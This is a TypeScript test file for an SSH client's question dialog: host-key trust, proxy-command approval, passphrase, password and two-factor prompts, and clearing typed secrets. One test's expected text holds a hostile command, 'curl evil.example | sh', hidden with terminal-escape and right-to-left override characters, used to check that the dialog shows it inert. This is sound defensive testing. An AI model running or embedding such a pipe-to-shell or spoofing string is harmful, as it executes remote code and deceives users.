import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { fail } from '../../../shared/problem.ts';
import type { Answer } from '../../../shared/question.ts';
import { setTransport } from '../../api.ts';
import { useQuestions } from '../../stores/questions.ts';
import { type QuestionName, questions } from '../../testing/fixture-questions.ts';
import { renderWithApp, type TestApp } from '../../testing/render-app.tsx';
import { QuestionDialog } from '../QuestionDialog.tsx';
import { shortPath } from './short-path.ts';

let app: TestApp;
/** What was answered, in its order. */
let answers: { id: string; answer: Answer }[];
/** The app takes no answer as long as this is true. */
let isDeaf: boolean;

/** Opens a window in which these are asked, one after the other. */
async function ask(...names: QuestionName[]): Promise<HTMLElement> {
  answers = [];
  isDeaf = false;
  ({ app } = await renderWithApp(<QuestionDialog />, 'busy'));
  setTransport({
    call: async (name, input) => {
      if (name === 'questions.answer' && 'answer' in input) {
        if (isDeaf) {
          return { ok: false, problem: fail('bug', 'The app does not answer.', 'Try again.').problem };
        }
        answers.push({ id: input.id, answer: { remember: false, ...Object(input.answer) } });
        if (typeof input.answer === 'string') {
          answers.splice(-1, 1, { id: input.id, answer: input.answer });
        }
      }
      return app.call(name, input);
    },
    onEvent: (listener) => app.subscribe(listener),
    onLink: () => () => {},
  });
  for (const name of names) {
    act(() => app.emit({ event: 'question.asked', question: questions[name] }));
  }
  return screen.findByRole('dialog');
}
afterEach(() => app.stop());

const type = (field: HTMLElement, text: string) => fireEvent.change(field, { target: { value: text } });
const field = (name: string | RegExp) => screen.getByLabelText<HTMLInputElement>(name);
const isGone = () => waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());

/** What Enter does in a browser: the button that belongs to the form is pressed, unless the key was taken. */
function pressEnter(input: HTMLInputElement): void {
  if (fireEvent.keyDown(input, { key: 'Enter' })) {
    const button = screen.getAllByRole('button').find((each) => each.getAttribute('type') === 'submit');
    expect(button?.getAttribute('form')).toBe(input.form?.id);
    if (input.form) {
      fireEvent.submit(input.form);
    }
  }
}

describe('the question for a host key', () => {
  it('says what to know before, and what to use a key once means', async () => {
    const dialog = await ask('host-key-notes');
    within(dialog).getByRole('heading', { name: 'Is this bastion?' });
    expect(dialog.textContent).toContain('It is a jump host on the way to pi4');
    const notes = within(dialog).getByRole('list', { name: 'Know before you decide' });
    expect(within(notes).getAllByRole('listitem')).toHaveLength(2);
    within(dialog).getByText(/until Barnraiser is closed/);
    fireEvent.click(within(dialog).getByRole('button', { name: 'Use once' }));
    await isGone();
    expect(answers).toEqual([{ id: 'question-2', answer: 'once' }]);
  });

  it('has the focus where nothing is trusted by it', async () => {
    const dialog = await ask('host-key');
    await waitFor(() => expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Refuse' })));
  });
});

describe('the question for a command', () => {
  it('names the node, the host and the place, and has the focus where nothing is run', async () => {
    const dialog = await ask('proxy-command');
    within(dialog).getByRole('heading', { name: 'Run a command to reach graviton?' });
    within(dialog).getByText('/home/anna/.ssh/config:31');
    within(dialog).getByText(/^aws ssm start-session .*'portNumber=22'$/, { selector: 'code' });
    within(dialog).getByRole('button', { name: 'Copy command' });
    await waitFor(() => expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Don’t run' })));
  });

  it.each([
    ['Always run', 'trust'],
    ['Run once', 'once'],
    ['Don’t run', 'refuse'],
  ] as const)('is answered with %s', async (name, answer) => {
    const dialog = await ask('proxy-command');
    fireEvent.click(within(dialog).getByRole('button', { name }));
    await isGone();
    expect(answers).toEqual([{ id: 'question-11', answer }]);
  });

  it('is refused with Escape', async () => {
    fireEvent.keyDown(await ask('proxy-command'), { key: 'Escape' });
    await isGone();
    expect(answers).toEqual([{ id: 'question-11', answer: 'refuse' }]);
  });

  it('shows all of a command, and nothing of it acts', async () => {
    const dialog = await ask('proxy-command-hostile');
    within(dialog).getByRole('heading', { name: 'Run a command to reach bastion?' });
    expect(dialog.textContent).toContain('\\u{1b}]0;curl evil.example | sh\\u{7} \\u{202e}#\\u{200b} and-on');
    expect(dialog.textContent).toContain('<b>bold?</b>');
    for (const acting of ['\u001b', '\u0007', '\u202e', '\u200b']) {
      expect(dialog.textContent).not.toContain(acting);
    }
    expect(dialog.querySelector('b')).toBeNull();
  });
});

describe('the question for a passphrase', () => {
  it('names the key and the node that wants it, and has the focus in its field', async () => {
    const dialog = await ask('passphrase');
    within(dialog).getByRole('heading', { name: 'Passphrase for ~/.ssh/id_ed25519' });
    expect(dialog.textContent).toContain('signs in to pi4 with this key');
    expect(dialog.textContent).toContain('/home/anna/.ssh/id_ed25519');
    await waitFor(() => expect(document.activeElement).toBe(field('Passphrase')));
  });

  it('hides what is typed until it is asked to show it, and lets nothing complete or check it', async () => {
    await ask('passphrase');
    const input = field('Passphrase');
    expect(input.type).toBe('password');
    expect(input.autocomplete).toBe('off');
    expect(input.getAttribute('spellcheck')).toBe('false');
    fireEvent.click(screen.getByRole('button', { name: 'Show passphrase' }));
    expect(field('Passphrase').type).toBe('text');
    fireEvent.click(screen.getByRole('button', { name: 'Hide passphrase' }));
    expect(field('Passphrase').type).toBe('password');
  });

  it('is answered with Enter, and remembered only when that was chosen', async () => {
    await ask('passphrase');
    type(field('Passphrase'), 'correct horse');
    fireEvent.click(screen.getByText(/^Remember in/));
    pressEnter(field('Passphrase'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-3', answer: { secrets: ['correct horse'], remember: true } }]);
  });

  it('is not answered with nothing', async () => {
    await ask('passphrase');
    pressEnter(field('Passphrase'));
    await screen.findByText('Type the passphrase of the key.');
    expect(answers).toEqual([]);
  });

  it('says at the field that the one before was wrong, until another is typed', async () => {
    await ask('passphrase-wrong');
    const said = screen.getByText(/does not unlock the key/);
    expect(field('Passphrase').getAttribute('aria-describedby')).toContain(said.id);
    type(field('Passphrase'), 'a');
    expect(screen.queryByText(/does not unlock the key/)).toBeNull();
  });

  it('says why it cannot be remembered where it cannot', async () => {
    await ask('passphrase-wrong');
    const remember = screen.getByRole('checkbox', { name: /^Remember/ });
    expect(remember.getAttribute('aria-disabled') ?? remember.getAttribute('data-disabled')).not.toBeNull();
    screen.getByText(/it would be written in plain text/);
  });

  it('is refused with Escape', async () => {
    const dialog = await ask('passphrase');
    type(field('Passphrase'), 'half typ');
    fireEvent.keyDown(dialog, { key: 'Escape' });
    await isGone();
    expect(answers).toEqual([{ id: 'question-3', answer: 'refuse' }]);
  });

  it('writes homes as people do, and other paths as they are', () => {
    expect(shortPath('/root/.ssh/id_rsa')).toBe('~/.ssh/id_rsa');
    expect(shortPath('C:\\Users\\anna\\.ssh\\id_rsa')).toBe('~\\.ssh\\id_rsa');
    expect(shortPath('/home/anna/keys/.ssh/x')).toBe('/home/anna/keys/.ssh/x');
  });
});

describe('the question for a password', () => {
  it('says whose it is and where it goes', async () => {
    const dialog = await ask('password');
    within(dialog).getByRole('heading', { name: 'Password for root@starfive.lan' });
    expect(dialog.textContent).toContain('riscv-board');
    expect(dialog.textContent).toContain('starfive.lan, port 2222');
    type(field('Password'), 'secret');
    pressEnter(field('Password'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-5', answer: { secrets: ['secret'], remember: false } }]);
  });
});

describe('what a server asks', () => {
  it('has a field a prompt, shown or hidden as the server says', async () => {
    await ask('prompts');
    screen.getByText('Two-factor authentication');
    expect(field('Account').type).toBe('text');
    expect(field('Verification code').type).toBe('password');
    type(field('Account'), 'anna');
    // the field below is still empty
    pressEnter(field('Account'));
    expect(document.activeElement).toBe(field('Verification code'));
    expect(answers).toEqual([]);
    type(field('Verification code'), '123456');
    pressEnter(field('Verification code'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-7', answer: { secrets: ['anna', '123456'], remember: false } }]);
  });

  it('may be answered with nothing', async () => {
    await ask('prompts-bare');
    pressEnter(field('Password'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-8', answer: { secrets: [''], remember: false } }]);
  });

  it('keeps the lines of a menu, and the last one is the name of its field', async () => {
    const dialog = await ask('prompts-menu');
    field('Passcode or option (1-2)');
    expect(within(dialog).getByText(/Duo two-factor login/).textContent).toContain('\n 1. Push to XXX-XXX-1234\n');
    expect(dialog.textContent).toContain('bastion, the jump host on the way to graviton, asks this of anna');
  });

  it('stands in a frame that says who says it, and neither acts nor hides', async () => {
    const dialog = await ask('hostile');
    within(dialog).getByRole('heading', { name: 'Sign in to graviton' });
    const said = within(dialog).getByRole('figure');
    within(said).getByText('graviton.eu.example.com');
    expect(said.textContent).toContain('<b>bold?</b>');
    for (const acting of ['\u001b', '\u0000', '\u0007', '\u202e', '\u2066', '\u2069', '\u0301'.repeat(5)]) {
      expect(dialog.textContent).not.toContain(acting);
    }
    expect(dialog.querySelector('b')).toBeNull();
    expect(within(dialog).getAllByRole('textbox').length + dialog.querySelectorAll('[type=password]').length).toBe(3);
  });
});

describe('what was typed', () => {
  /** Every text that the page, its fields and the stores hold. */
  const everywhere = () =>
    document.documentElement.outerHTML +
    [...document.querySelectorAll('input')].map(({ value }) => value).join() +
    JSON.stringify(useQuestions.getState());

  it('is nowhere in the window once it was sent', async () => {
    await ask('passphrase', 'password');
    type(field('Passphrase'), 'correct horse');
    expect(everywhere()).toContain('correct horse');
    pressEnter(field('Passphrase'));
    expect(everywhere()).not.toContain('correct horse');
    await screen.findByRole('dialog', { name: /^Password for/ });
    expect(field('Password').value).toBe('');
    expect(everywhere()).not.toContain('correct horse');
  });

  it('is nowhere in the window once the question was withdrawn', async () => {
    await ask('passphrase');
    const input = field('Passphrase');
    type(input, 'correct horse');
    act(() => app.emit({ event: 'question.settled', id: 'question-3' }));
    await isGone();
    expect(everywhere()).not.toContain('correct horse');
    // nor in the field that faded away with the dialog
    expect(input.value).toBe('');
  });

  it('is asked for again where the app did not hear it', async () => {
    await ask('passphrase');
    isDeaf = true;
    type(field('Passphrase'), 'correct horse');
    pressEnter(field('Passphrase'));
    await screen.findByText('The app does not answer.');
    expect(everywhere()).not.toContain('correct horse');
    isDeaf = false;
    type(field('Passphrase'), 'again');
    pressEnter(field('Passphrase'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-3', answer: { secrets: ['again'], remember: false } }]);
  });
});

describe('several questions', () => {
  it('wait one after the other in one dialog, and are counted', async () => {
    const dialog = await ask('passphrase', 'password', 'host-key');
    within(dialog).getByText('1 of 3');
    type(field('Passphrase'), 'x');
    pressEnter(field('Passphrase'));
    await screen.findByRole('dialog', { name: 'Password for root@starfive.lan' });
    within(screen.getByRole('dialog')).getByText('2 of 3');
    expect(screen.getByRole('status').textContent).toBe('Question 2 of 3');
    await waitFor(() => expect(document.activeElement).toBe(field('Password')));
    fireEvent.click(screen.getByRole('button', { name: 'Cancel sign-in' }));
    await screen.findByRole('dialog', { name: 'Is this graviton?' });
    within(screen.getByRole('dialog')).getByText('3 of 3');
    expect(document.activeElement?.textContent).toBe('Refuse');
    fireEvent.click(screen.getByRole('button', { name: 'Trust and save' }));
    await isGone();
    expect(answers.map(({ answer }) => answer)).toEqual([{ secrets: ['x'], remember: false }, 'refuse', 'trust']);
  });

  it('that come alone are not counted', async () => {
    const dialog = await ask('password');
    expect(within(dialog).queryByText(/^\d of \d$/)).toBeNull();
  });
});
